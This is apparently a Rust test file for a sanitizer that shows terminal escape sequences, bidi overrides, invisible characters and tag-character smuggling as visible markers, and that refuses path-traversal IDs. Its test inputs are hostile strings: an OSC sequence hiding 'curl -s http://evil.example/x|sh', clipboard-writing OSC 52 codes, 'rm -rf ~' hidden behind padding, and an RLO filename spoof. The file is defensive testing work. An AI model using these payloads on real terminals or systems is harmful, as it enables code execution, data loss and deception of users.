use super::*;

/// [`cut`] noted in English.
fn bounded(s: &str, max_chars: usize) -> Cow<'_, str> {
    cut(s, max_chars).english()
}

const FLAG_SCOTLAND: &str = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}";

/// Every character shown as `⟨U+…⟩`: each group's ends and more.
const CODED: &str = concat!(
    "\u{80}\u{85}\u{90}\u{9b}\u{9c}\u{9d}\u{9f}\u{2028}\u{2029}",
    "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}",
    "\u{200e}\u{200f}\u{61c}\u{ad}\u{200b}\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}",
    "\u{2065}\u{206a}\u{206f}\u{feff}\u{180e}\u{3164}\u{ffa0}",
    "\u{fff0}\u{fff9}\u{fffa}\u{fffb}\u{1bca0}\u{1bca3}\u{1d173}\u{1d17a}",
    "\u{e0000}\u{e0001}\u{e0020}\u{e0041}\u{e0061}\u{e007f}\u{e00ff}\u{e01f0}\u{e0fff}",
);

fn borrowed(c: Cow<'_, str>) -> bool {
    matches!(c, Cow::Borrowed(_))
}

#[test]
fn legitimate_scripts_and_emoji_pass_unchanged_without_copying() {
    for text in [
        "👩\u{200d}💻 Dev",
        "می\u{200c}خواهم",
        "שלום עולם",
        "مرحبا بالعالم",
        FLAG_SCOTLAND,
        "Flag of Scotland: 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}!",
        "❤\u{fe0f} and 葛\u{e0100}",
        "e\u{301}te\u{301} नमस्ते",
        "👍\u{1f3fd} 🇫🇷",
        "Mongolian ᠠ\u{180b}",
        "plain ASCII, with punctuation: a/b?c#d",
        "Grüße, ¿qué?",
        "Bonjour\u{a0}! 日本語\u{3000}です",
    ] {
        let line = one_line(text);
        assert_eq!(line, text);
        let block = multi_line(text);
        assert_eq!(block, text);
        if !text.contains(FLAG_SCOTLAND) {
            assert!(borrowed(line) && borrowed(block), "{text:?} was copied");
        }
    }
    assert!(borrowed(multi_line("two\nlines")));
}

#[test]
fn each_control_and_invisible_is_shown_between_letters() {
    for c in CODED.chars() {
        let input = format!("a{c}b");
        let want = format!("a⟨U+{:04X}⟩b", c as u32);
        assert_eq!(one_line(&input), want);
        assert_eq!(multi_line(&input), want);
    }
    for (c, picture) in [
        ('\u{0}', '␀'),
        ('\u{7}', '␇'),
        ('\u{8}', '␈'),
        ('\u{b}', '␋'),
        ('\u{c}', '␌'),
        ('\r', '␍'),
        ('\u{1b}', '␛'),
        ('\u{1f}', '␟'),
        ('\u{7f}', '␡'),
    ] {
        let want = format!("a{picture}b");
        assert_eq!(one_line(&format!("a{c}b")), want);
        assert_eq!(multi_line(&format!("a{c}b")), want);
    }
}

#[test]
fn direction_controls_and_invisibles_are_shown_where_they_are() {
    assert_eq!(one_line("invoice\u{202e}fdp.exe"), "invoice⟨U+202E⟩fdp.exe");
    assert_eq!(
        one_line("abc\u{202e}שלום\u{202c}"),
        "abc⟨U+202E⟩שלום⟨U+202C⟩"
    );
    assert_eq!(one_line("\u{2067}مرحبا\u{2069}"), "⟨U+2067⟩مرحبا⟨U+2069⟩");
    assert_eq!(one_line("a\u{e0041}\u{e0042}b"), "a⟨U+E0041⟩⟨U+E0042⟩b");
    assert_eq!(
        one_line("git\u{200b} status\u{feff}"),
        "git⟨U+200B⟩ status⟨U+FEFF⟩"
    );
}

#[test]
fn tags_pass_only_as_a_well_formed_flag() {
    // Tags smuggling upper-case ASCII after a black flag are shown.
    assert_eq!(
        one_line("\u{1f3f4}\u{e0049}\u{e0047}\u{e004e}\u{e007f}x"),
        "\u{1f3f4}⟨U+E0049⟩⟨U+E0047⟩⟨U+E004E⟩⟨U+E007F⟩x"
    );
    // Too long to be a subdivision, or never closed: all tags are shown.
    let long: String = std::iter::once('\u{1f3f4}')
        .chain(std::iter::repeat_n('\u{e0061}', 8))
        .chain(['\u{e007f}'])
        .collect();
    assert_eq!(
        one_line(&long),
        format!("\u{1f3f4}{}⟨U+E007F⟩", "⟨U+E0061⟩".repeat(8))
    );
    assert_eq!(
        one_line("\u{1f3f4}\u{e0067}\u{e0062}\u{e0073} x"),
        "\u{1f3f4}⟨U+E0067⟩⟨U+E0062⟩⟨U+E0073⟩ x"
    );
    // A flag's tags after anything but U+1F3F4 are shown.
    assert_eq!(
        one_line("\u{1f3f3}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}"),
        "\u{1f3f3}⟨U+E0067⟩⟨U+E0062⟩⟨U+E0073⟩⟨U+E0063⟩⟨U+E0074⟩⟨U+E007F⟩"
    );
    // Something between the flag and its tags breaks the sequence.
    assert_eq!(
        one_line("\u{1f3f4}\u{200b}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}"),
        "\u{1f3f4}⟨U+200B⟩⟨U+E0067⟩⟨U+E0062⟩⟨U+E0073⟩⟨U+E0063⟩⟨U+E0074⟩⟨U+E007F⟩"
    );
    assert_eq!(
        one_line(&format!("{FLAG_SCOTLAND}{FLAG_SCOTLAND}")),
        format!("{FLAG_SCOTLAND}{FLAG_SCOTLAND}")
    );
}

#[test]
fn escape_strings_are_shown_whole_with_their_payload() {
    let cases = [
        // The issue's command: the payload is what bash runs.
        (
            "git status\u{1b}]0;curl -s http://evil.example/x|sh;\u{7}",
            "git status␛]0;curl -s http://evil.example/x|sh;␇",
        ),
        (
            "\u{1b}]52;c;SGVsbG8gY2xpcGJvYXJk\u{7}after",
            "␛]52;c;SGVsbG8gY2xpcGJvYXJk␇after",
        ),
        (
            "\u{1b}]52;c;SGVsbG8=\u{1b}\\after",
            "␛]52;c;SGVsbG8=␛\\after",
        ),
        (
            "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
            "␛]8;;https://evil.example/␛\\click␛]8;;␛\\",
        ),
        ("before\u{1b}[2J\u{1b}[Hafter", "before␛[2J␛[Hafter"),
        ("\u{1b}[31mred\u{1b}[0m", "␛[31mred␛[0m"),
        ("\u{1b}[?1049h\u{1b}[?25lx", "␛[?1049h␛[?25lx"),
        // DCS, APC, PM, SOS … ST.
        ("\u{1b}Pq#0;rm -rf ~\u{1b}\\x", "␛Pq#0;rm -rf ~␛\\x"),
        ("\u{1b}_curl x|sh\u{1b}\\x", "␛_curl x|sh␛\\x"),
        ("\u{1b}^pm payload\u{1b}\\x", "␛^pm payload␛\\x"),
        ("\u{1b}Xsos payload\u{1b}\\x", "␛Xsos payload␛\\x"),
        // 8-bit forms.
        ("\u{9b}31mred", "⟨U+009B⟩31mred"),
        (
            "git status\u{9d}0;curl -s http://evil.example/x|sh;\u{9c}",
            "git status⟨U+009D⟩0;curl -s http://evil.example/x|sh;⟨U+009C⟩",
        ),
        (
            "\u{90}q#0\u{9c}\u{98}s\u{9c}\u{9e}p\u{9c}\u{9f}a\u{9c}x",
            "⟨U+0090⟩q#0⟨U+009C⟩⟨U+0098⟩s⟨U+009C⟩⟨U+009E⟩p⟨U+009C⟩⟨U+009F⟩a⟨U+009C⟩x",
        ),
        ("\u{1b}cx\u{1b}(B\u{1b}#8", "␛cx␛(B␛#8"),
        // Unterminated: shown to the end.
        ("x\u{1b}]52;c;SGVsbG8=", "x␛]52;c;SGVsbG8="),
        ("x\u{1b}", "x␛"),
    ];
    for (input, want) in cases {
        assert_eq!(one_line(input), want, "{input:?}");
        assert_eq!(multi_line(input), want, "{input:?}");
    }
}

#[test]
fn an_escape_string_spanning_lines_hides_none_of_them() {
    // A terminal would swallow the added lines up to the BEL; shown, every
    // line is there.
    let diff = "--- a/x\n+++ b/x\n@@ -1 +1,3 @@\n-old\n+new\u{1b}]0;\n+curl -s http://evil.example/x | sh\n+\u{7}";
    assert_eq!(
        multi_line(diff),
        "--- a/x\n+++ b/x\n@@ -1 +1,3 @@\n-old\n+new␛]0;\n+curl -s http://evil.example/x | sh\n+␇"
    );
    assert_eq!(
        multi_line("x\u{9d}8;;http://e/\nmore"),
        "x⟨U+009D⟩8;;http://e/\nmore"
    );
    assert_eq!(
        one_line("git status\u{1b}]0;\nrm -rf ~\u{7}"),
        "git status␛]0;␤rm -rf ~␇"
    );
}

#[test]
fn line_flavours_and_trimming() {
    assert_eq!(
        multi_line("  one\r\n\ttwo\u{2028}three  \n\n"),
        "  one\n two⟨U+2028⟩three"
    );
    assert_eq!(
        one_line("  one\r\n\ttwo\u{2029}three\u{85}four  "),
        "one␤ two⟨U+2029⟩three⟨U+0085⟩four"
    );
    assert_eq!(multi_line("a\rb"), "a␍b");
    // Only blanks and line breaks are trimmed; what acts is shown.
    assert_eq!(
        one_line("\u{200b} \u{1b}[1m x \u{feff}"),
        "⟨U+200B⟩ ␛[1m x ⟨U+FEFF⟩"
    );
    assert_eq!(one_line("\n\t x\r\n"), "x");
    assert_eq!(multi_line("x\u{7}\n"), "x␇");
    assert_eq!(multi_line(""), "");
    assert!(borrowed(one_line("  trimmed only  ")));
    assert_eq!(one_line("  trimmed only  "), "trimmed only");
}

#[test]
fn long_runs_of_blanks_and_blank_lines_are_counted() {
    let padded = format!("git status{}; rm -rf ~", " ".repeat(4000));
    assert_eq!(one_line(&padded), "git status␠×4000; rm -rf ~");
    assert_eq!(multi_line(&padded), "git status␠×4000; rm -rf ~");
    let tabs = format!("a{}b", "\t \u{a0}".repeat(30));
    assert_eq!(one_line(&tabs), "a␠×90b");
    let lines = format!("git status{}rm -rf ~", "\n".repeat(300));
    assert_eq!(
        multi_line(&lines),
        "git status\n[299 blank lines]\nrm -rf ~"
    );
    assert_eq!(one_line(&lines), "git status␤×300rm -rf ~");
    // Blank lines holding blanks or CRs are blank lines too.
    assert_eq!(
        multi_line("a\r\n \r\n\t\n  \n \nb"),
        "a\n[4 blank lines]\nb"
    );
    // At the thresholds: shown as they are.
    for text in [
        format!("{}deep();\n\nnext", " ".repeat(MULTI_LINE_BLANKS)),
        format!("para one\n{}para two", "\n".repeat(BLANK_LINES)),
        format!("a{}b", " ".repeat(MULTI_LINE_BLANKS)),
    ] {
        assert!(borrowed(multi_line(&text)), "{text:?}");
    }
    assert_eq!(
        multi_line(&format!("a{}b", " ".repeat(MULTI_LINE_BLANKS + 1))),
        format!("a␠×{}b", MULTI_LINE_BLANKS + 1)
    );
    assert_eq!(
        multi_line(&format!("a{}b", "\n".repeat(BLANK_LINES + 2))),
        format!("a\n[{} blank lines]\nb", BLANK_LINES + 1)
    );
    let aligned = format!("a{}b", " ".repeat(ONE_LINE_BLANKS));
    assert!(borrowed(one_line(&aligned)));
    assert_eq!(
        one_line(&format!("a{}b", " ".repeat(ONE_LINE_BLANKS + 1))),
        format!("a␠×{}b", ONE_LINE_BLANKS + 1)
    );
    assert_eq!(one_line("a\n\n\n\nb"), "a␤␤␤␤b");
    assert_eq!(one_line("a\n\n\n\n\nb"), "a␤×5b");
}

#[test]
fn shown_text_grows_at_most_six_times() {
    for input in [
        "\u{85}".repeat(1000),
        "\u{61c}".repeat(1000),
        "\u{1b}".repeat(1000),
        "\u{e0041}".repeat(1000),
        "\n\n\n\n\nx".repeat(1000),
        "x\n".repeat(1000),
    ] {
        for out in [one_line(&input), multi_line(&input)] {
            assert!(
                out.len() <= 6 * input.len(),
                "{} from {}",
                out.len(),
                input.len()
            );
        }
    }
    assert_eq!(one_line("\u{85}").len(), 12);
}

#[test]
fn bounded_says_how_much_it_hid_and_keeps_clusters() {
    assert!(borrowed(bounded("short", 5)));
    assert_eq!(bounded("abcdef", 3), "abc… (+3 more characters)");
    assert_eq!(bounded("abcd", 3), "abc… (+1 more character)");
    assert_eq!(bounded("ab   cdef", 3), "ab… (+7 more characters)");
    assert_eq!(bounded("abc", 0), "… (+3 more characters)");
    assert_eq!(
        bounded(&"x".repeat(1_234_567 + 2), 2),
        "xx… (+1,234,567 more characters)"
    );
    // Never between a letter and its combining accent.
    assert_eq!(bounded("abe\u{301}cd", 3), "ab… (+4 more characters)");
    assert_eq!(bounded("नमस्ते", 3), "नम… (+4 more characters)");
    // Not inside a ZWJ sequence, a modifier, a variation selector or a flag.
    assert_eq!(bounded("a👩\u{200d}💻 Dev", 2), "a… (+7 more characters)");
    assert_eq!(
        bounded("a👩\u{200d}💻 Dev", 4),
        "a👩\u{200d}💻… (+4 more characters)"
    );
    assert_eq!(bounded("a👍\u{1f3fd}b", 2), "a… (+3 more characters)");
    assert_eq!(bounded("a❤\u{fe0f}b", 2), "a… (+3 more characters)");
    assert_eq!(bounded("🇫🇷🇩🇪x", 3), "🇫🇷… (+3 more characters)");
    assert_eq!(bounded("🇫🇷🇩🇪x", 2), "🇫🇷… (+3 more characters)");
    assert_eq!(
        bounded(&format!("a{FLAG_SCOTLAND}b"), 3),
        "a… (+8 more characters)"
    );
}

#[test]
fn a_four_mebibyte_id_is_shown_bounded() {
    let id = "que_".to_owned() + &"A".repeat(4 << 20);
    let shown = for_display(&id, DISPLAY_ID_CHARS);
    assert!(shown.starts_with(&id[..DISPLAY_ID_CHARS]), "{shown}");
    assert!(shown.ends_with("… (+4,194,228 more characters)"), "{shown}");

    let hostile =
        "\u{1b}]52;c;QUJD\u{7}que_\u{202e}x".to_owned() + &"\u{1b}[2J".repeat(1 << 20) + "tail";
    let shown = for_display(&hostile, DISPLAY_ID_CHARS);
    assert!(
        shown.starts_with("␛]52;c;QUJD␇que_⟨U+202E⟩x␛[2J␛[2J"),
        "{shown}"
    );
    assert!(shown.ends_with(" more characters)"), "{shown}");
    // Four shown characters per ESC [ 2 J; the cut kept 80 of them all.
    let total = "␛]52;c;QUJD␇que_⟨U+202E⟩x".chars().count() + 4 * (1 << 20) + 4;
    assert!(
        shown.ends_with(&english_cut_note(total - DISPLAY_ID_CHARS)),
        "{shown}"
    );

    let spaced = "id".to_owned() + &" ".repeat(4 << 20) + "\u{7}";
    assert_eq!(for_display(&spaced, DISPLAY_ID_CHARS), "id␠×4194304␇");
}

#[test]
fn for_display_is_one_line_then_bounded() {
    assert!(borrowed(for_display("ses_abc", DISPLAY_ID_CHARS)));
    assert_eq!(
        for_display(
            "  error:\n\u{1b}[31mboom\u{1b}[0m\tnow ",
            DISPLAY_MESSAGE_CHARS
        ),
        "error:␤␛[31mboom␛[0m now"
    );
    assert_eq!(
        for_display("\u{1b}[1mabcdef", 6),
        "␛[1mab… (+4 more characters)"
    );
    assert_eq!(for_display("\u{1b}[1mab  ", 6), "␛[1mab");
    assert_eq!(
        for_display("\u{1b}ab\u{301}cd", 3),
        "␛a… (+4 more characters)"
    );
    assert_eq!(for_display("\u{1b}x", 0), "… (+2 more characters)");
    assert_eq!(for_display("\u{1b}[1m", 4), "␛[1m");
}

#[test]
fn url_segment_takes_opencode_ids_only() {
    for id in [
        "que_20377fa670012yFjmtDQ35vRZs",
        "ses_1a2b",
        "per_x",
        "msg_y",
        "prt_z",
        "call_mock_1795420950_1",
        "a-b_C9",
    ] {
        assert_eq!(url_segment(id), Ok(id));
    }
    let refused = |id: &str| url_segment(id).unwrap_err().to_string();
    assert_eq!(
        refused("../../session/ses_x/abort#"),
        "refused id \"../../session/ses_x/abort#\": '.' at byte 0 \
         (ids are ASCII letters, digits, '_' and '-')"
    );
    assert_eq!(
        refused("que_a/reject#"),
        "refused id \"que_a/reject#\": '/' at byte 5 \
         (ids are ASCII letters, digits, '_' and '-')"
    );
    assert!(refused("a?directory=x").contains("'?' at byte 1"));
    assert!(refused("a%2Fb").contains("'%' at byte 1"));
    assert!(refused("a b").contains("U+0020 at byte 1"));
    assert!(refused("ab\u{202e}c").contains("U+202E at byte 2"));
    assert!(refused("é").contains("U+00E9 at byte 0"));
    assert!(refused("x\u{1b}]52;c;QUJD\u{7}").starts_with("refused id \"x␛]52;c;QUJD␇\": U+001B"));
    assert_eq!(url_segment(""), Err(IdError::Empty));
    assert_eq!(refused(""), "refused an empty id");
    assert_eq!(
        url_segment(&"a".repeat(URL_SEGMENT_MAX)).map(str::len),
        Ok(URL_SEGMENT_MAX)
    );
    let long = "a".repeat(4 << 20);
    let message = refused(&long);
    assert!(
        message.ends_with("4194304 bytes long (at most 128)"),
        "{message}"
    );
    assert!(message.len() < 200, "{message}");
}

#[test]
fn extend_table_is_sorted_and_finds_marks() {
    assert!(EXTEND.len().is_multiple_of(2));
    assert!(EXTEND.windows(2).all(|w| w[0] <= w[1]));
    for c in [
        '\u{300}',
        '\u{36f}',
        '\u{93f}',
        '\u{20e3}',
        ZWJ,
        '\u{fe0f}',
        '\u{1f3fd}',
        '\u{e0067}',
        '\u{e01ef}',
    ] {
        assert!(extends(c), "{:04X}", c as u32);
    }
    for c in [
        'a',
        ' ',
        '\u{2ff}',
        '\u{370}',
        'न',
        '👩',
        '\u{1f3f4}',
        '\u{10ffff}',
        '\u{0}',
    ] {
        assert!(!extends(c), "{:04X}", c as u32);
    }
}

#[test]
fn generated_strings_come_out_visible_and_stable() {
    const POOL: &[&str] = &[
        "a",
        "Z",
        "0",
        " ",
        "  ",
        "\n",
        "\r",
        "\t",
        "\r\n",
        "[",
        "]",
        "\\",
        "P",
        ";",
        "m",
        "é",
        "e\u{301}",
        "ש",
        "م",
        "न्",
        "👩",
        "💻",
        "\u{1b}",
        "\u{1b}[",
        "\u{1b}]52;c;",
        "\u{1b}\\",
        "\u{7}",
        "\u{18}",
        "\u{7f}",
        "\u{0}",
        "\u{200c}",
        "\u{200d}",
        "\u{fe0f}",
        "\u{e0100}",
        "\u{1f3fd}",
        "🇫",
        "🇷",
        "\u{1f3f4}",
        "\u{e0067}",
        "\u{e0062}",
        "\u{e0073}",
        "\u{e0063}",
        "\u{e0074}",
        "\u{e007f}",
        FLAG_SCOTLAND,
        "\u{a0}",
        "\u{3000}",
        "␛",
        "⟨U+202E⟩",
        "␠×9",
    ];
    let blanks = " ".repeat(20);
    let breaks = "\n".repeat(5);
    let pool: Vec<&str> = POOL
        .iter()
        .copied()
        .chain(
            CODED
                .char_indices()
                .map(|(i, c)| &CODED[i..i + c.len_utf8()]),
        )
        .chain([blanks.as_str(), breaks.as_str()])
        .collect();
    // xorshift64*: deterministic, so a failure reproduces.
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = move || {
        state ^= state >> 12;
        state ^= state << 25;
        state ^= state >> 27;
        state.wrapping_mul(0x2545_f491_4f6c_dd1d)
    };
    for _ in 0..20_000 {
        let pieces = (next() % 24) as usize;
        let input: String = (0..pieces)
            .map(|_| pool[(next() % pool.len() as u64) as usize])
            .collect();
        for keep_newlines in [false, true] {
            let out = shown(&input, keep_newlines);
            let mut chars = out.chars();
            while let Some(c) = chars.next() {
                if c == BLACK_FLAG {
                    // A flag's tags are the one place tags pass.
                    let tags = Visible::new(chars.as_str(), keep_newlines).flag_tag_count();
                    chars.nth(tags.wrapping_sub(1));
                    continue;
                }
                let bad = if c == '\n' {
                    !keep_newlines
                } else {
                    !untouched(c, true)
                };
                assert!(!bad, "{:04X} in {out:?} from {input:?}", c as u32);
            }
            assert!(out.len() <= 6 * input.len(), "{out:?} from {input:?}");
            assert_eq!(trim(&out, keep_newlines), out, "untrimmed from {input:?}");
            assert_eq!(shown(&out, keep_newlines), out, "not stable: {input:?}");
            // Nothing visible is lost: every letter of the input is shown.
            let letters = |s: &str| s.chars().filter(|c| c.is_alphanumeric()).count();
            assert!(letters(&out) >= letters(&input), "{out:?} from {input:?}");
        }
        let max = (next() % 12) as usize;
        let shown = for_display(&input, max);
        let line = one_line(&input);
        if line.chars().count() <= max {
            assert_eq!(shown, line, "from {input:?}");
        } else {
            let (kept, note) = shown.split_at(shown.rfind('…').expect("a cut note"));
            assert!(kept.chars().count() <= max, "{shown:?} from {input:?}");
            assert!(line.starts_with(kept), "{shown:?} from {input:?}");
            let hidden = line.chars().count() - kept.chars().count();
            assert_eq!(note, english_cut_note(hidden), "from {input:?}");
            let cut = cut_for_display(&input, max);
            assert_eq!(
                (cut.kept.as_ref(), cut.hidden),
                (kept, hidden),
                "from {input:?}"
            );
        }
    }
}

#[test]
fn cells_count_what_a_terminal_shows() {
    assert_eq!(cells("Reject"), 6);
    assert_eq!(cells("✗ 拒绝"), 6);
    assert_eq!(cells("e\u{301}"), 1);
    assert_eq!(char_cells('中'), 2);
    assert_eq!(char_cells('\u{200d}'), 0);
}
